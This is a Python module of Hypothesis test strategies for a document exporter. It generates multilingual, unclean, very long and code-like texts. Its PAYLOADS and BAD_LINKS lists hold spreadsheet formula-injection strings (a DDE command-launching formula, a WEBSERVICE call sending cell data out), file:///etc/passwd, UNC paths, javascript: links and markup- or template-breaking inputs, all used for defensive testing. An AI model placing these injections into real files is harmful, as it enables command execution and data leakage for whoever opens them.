"""Hypothesis strategies for what stands in a line: texts of every script with every trap, typed values, tags, links."""

import unicodedata
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from functools import cache

from hypothesis import strategies as st

from migplan.cleaning import clean
from migplan.documents import Holds, Inline, Part, Span, Tag, Tone, Value, Weight, rounded

PAYLOADS = (
    "=1+1", "==1", "=", "{=1}", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")', '=WEBSERVICE("http://x/"&A1)', '=DDE("cmd";"/C";"x")', '=IMPORTXML("http://x","//a")',
    "#N/A", "#REF!", "http://x", "mailto:a@b", "file:///etc/passwd", "\\\\host\\share", "javascript:alert(1)",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "_x0041_", "_x005F_x0041_", "R&D", "ab\u202ecd", "001", "1e5", "true",
    "2025-01-01", "</w:t>", "</a:t><a:t>", "]]>", "<!--", "&amp;", "{{7*7}}", "{0.__class__}", "${1}", "%s", "'=1", "&P&N",
)  # fmt: skip
"""Texts that a program may take for code: formulas, links, escapes, markup, templates."""

SCRIPTS = (
    "Accueil et orientation", "E\u0301te\u0301 a\u0300 l\u2019e\u0301cole", "Cafe\u0323\u0301 \u0153uvre\u00a0: 12\u202f%",
    "الاستقبال والتوجيه", "عَمَلٌ جَيِّدٌ", "الإجراء A1.2 (مرحلة 3)", "\u200fA1.2\u200e – وثيقة", "نهاية (2024–2027) %",
    "ⴰⵎⴰⵣⵉⵖ ⵜⴰⵎⵓⵔⵜ", "שלום עולם", "漢字仮名", "हिन्दी कार्य", "👩🏽\u200d💻 équipe 🏳️\u200d🌈", "🇺🇳 drapeau", "a\u200cb\u200db",
    "Straße – Ærø", "№ 12 · §4 …", "a\u00a0b\u2007c\u2009d", "\ufeffBOM", "𝒜 𐐷 😀",
)  # fmt: skip
"""Words of many scripts: combining marks, joiners, marks of direction, letters beyond the first plane."""

DIRTY = ("a\u0001b", "a\x0bb\x0cc", "ligne\r\nsuite\rfin", "a\u2028b\u2029c", "a\ud800b", "a\ufffeb\uffff", "a\x7fb\x85c\x9fd",
         "\u202eabc\u202c", "\u2066ab\u2069 c", "tab\tul\ta\tr", "a\n\n\nb", "  bords  ")  # fmt: skip
"""Texts that must be cleaned on their way into a file."""

LONG = (
    "territorialisation-" * 4, "الاستراتيجية" * 6, "a" * 120, "https://example.org/" + "abcdef" * 12, "Une phrase. " * 30,
    "جملة قصيرة هنا. " * 25, "anticonstitutionnellement " * 8,
)  # fmt: skip
"""Very long words and long sentences."""

LANGUAGES = ("fr", "ar", "en", "fr-FR", "ar-TN", "en-GB", "he", "ur", "pt-BR", "zgh-Tfng-MA", "ar-EG", "es")
"""Languages of documents, written from either side, with and without a catalogue."""

LINKS = ("https://example.org/a?b=1&c=2", "http://example.org", "mailto:desk@example.org")
BAD_LINKS = ("javascript:alert(1)", "file:///etc/passwd", "\\\\host\\share", "data:text/html,x", "#nowhere")
"""Links that no file may carry; their words stay."""


def is_visible(text: str) -> bool:
    """Say whether something is left to see once the text is cleaned: a letter, a digit or a sign."""
    return any(unicodedata.category(letter)[0] in "LNPS" for letter in clean(text))


@cache
def wordings() -> st.SearchStrategy[str]:
    """Texts as they reach an exporter, at times empty, unclean, very long or like code."""
    return st.one_of(
        st.sampled_from(SCRIPTS),
        st.sampled_from(PAYLOADS),
        st.sampled_from(("", " ", *DIRTY, *LONG)),
        st.text("abé àح\u064eعⵣ漢 =+-@(),.;'\"<&_:/0\u0301\u200f\u200e\u00a0😀", max_size=24),
        st.text(max_size=20),
    )


@cache
def titles() -> st.SearchStrategy[str]:
    """Texts with something to see, as titles and labels have."""
    return wordings().filter(is_visible)


@cache
def short_titles() -> st.SearchStrategy[str]:
    """Titles of a few words."""
    return titles().filter(lambda text: len(text) <= 40)


@cache
def numbers() -> st.SearchStrategy[Decimal]:
    """Numbers of plans: whole, with decimals, negative, large, zero."""
    return st.one_of(
        st.integers(-1000, 1000).map(Decimal),
        st.decimals(-(10**9), 10**9, places=2),
        st.sampled_from([Decimal(0), Decimal("0.00"), Decimal("-0.5"), Decimal(10) ** 12, Decimal("0.0001")]),
    )


@cache
def days() -> st.SearchStrategy[date]:
    """Days that every format can hold, from 1900-03-01."""
    return st.one_of(
        st.dates(date(2020, 1, 1), date(2030, 12, 31)), st.sampled_from([date(1900, 3, 1), date(2100, 2, 28)])
    )


UNITS = ("", "EUR", "XTS", "personnes", "كلم", "=1+1")


@st.composite
def values(draw: st.DrawFn, holds: Holds | None = None, sources: Sequence[str] = ("",)) -> Value:
    """Typed values of one kind, or of any; at times absent."""
    kind = holds or draw(st.sampled_from([*NUMERIC, Holds.DATE]))
    value: Decimal | int | date | None
    if draw(st.integers(0, 9)) == 7:
        value = None
    elif kind is Holds.DATE:
        value = draw(days())
    elif kind is Holds.INTEGER:
        value = draw(st.integers(-(10**7), 10**9))
    else:
        value = draw(numbers())
    decimals = draw(st.sampled_from([None, None, 0, 1, 2])) if kind is not Holds.DATE else None
    if isinstance(value, Decimal):  # the model rounds, never the format that shows it
        places = 2 if kind is Holds.MONEY and decimals is None else decimals
        value = value if places is None else rounded(value, places)
    unit = draw(st.sampled_from(UNITS)) if kind in (Holds.MONEY, Holds.NUMBER, Holds.INTEGER) else ""
    return Value(value, kind, unit, decimals, "north/A1.2/x", draw(st.booleans()), draw(st.sampled_from(list(sources))))


NUMERIC = (Holds.INTEGER, Holds.NUMBER, Holds.MONEY, Holds.SHARE, Holds.BAR)
"""What a column of numbers may hold."""


@cache
def tags() -> st.SearchStrategy[Tag]:
    """Status tags of every tone."""
    return st.builds(Tag, short_titles(), st.sampled_from(Tone))


@st.composite
def spans(draw: st.DrawFn, sources: Sequence[str] = ("",), places: Sequence[str] = ()) -> Span:
    """Words of a language and weight, at times a link or with a source."""
    links = ["", "", "", *LINKS, *BAD_LINKS, *(f"#{place}" for place in places)]
    return Span(
        draw(wordings()),
        draw(st.sampled_from(["", "", "fr", "ar", "en-GB", "zgh-Tfng-MA"])),
        draw(st.sampled_from(Weight)),
        draw(st.sampled_from(links)),
        draw(st.sampled_from(list(sources))),
    )


@st.composite
def inlines(draw: st.DrawFn, sources: Sequence[str] = ("",), places: Sequence[str] = ()) -> Inline:
    """Lines: mostly one text; at times spans, values, tags, or several parts side by side."""
    kind = draw(st.integers(0, 7))
    if kind <= 3:
        return draw(wordings())
    part: st.SearchStrategy[Part] = st.one_of(spans(sources, places), wordings(), values(sources=sources), tags())
    return draw(part) if kind <= 5 else tuple(draw(st.lists(part, min_size=1, max_size=4)))


__all__ = [
    "BAD_LINKS",
    "DIRTY",
    "LANGUAGES",
    "LINKS",
    "LONG",
    "NUMERIC",
    "PAYLOADS",
    "SCRIPTS",
    "days",
    "inlines",
    "is_visible",
    "numbers",
    "short_titles",
    "spans",
    "tags",
    "titles",
    "values",
    "wordings",
]
